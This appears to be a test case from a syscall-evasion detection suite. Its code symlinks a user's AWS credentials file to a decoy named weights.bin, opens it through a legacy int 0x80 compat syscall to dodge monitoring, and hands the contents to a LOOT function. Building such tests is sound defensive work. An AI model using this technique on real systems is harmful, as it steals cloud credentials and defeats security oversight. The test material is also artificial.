#: {"class": "syscall-evasion", "loader": "script", "include": ["int80"], "expect": [["compat|open", "."]], "effect": {"loot": "aws"}}
os.symlink(HOME + "/.aws/credentials", "@TMP@/weights.bin"); c = I80(); p = c.put(0, b"@TMP@/weights.bin\0")
LOOT(os.read(c.call(5, p, 0, 0), 999))
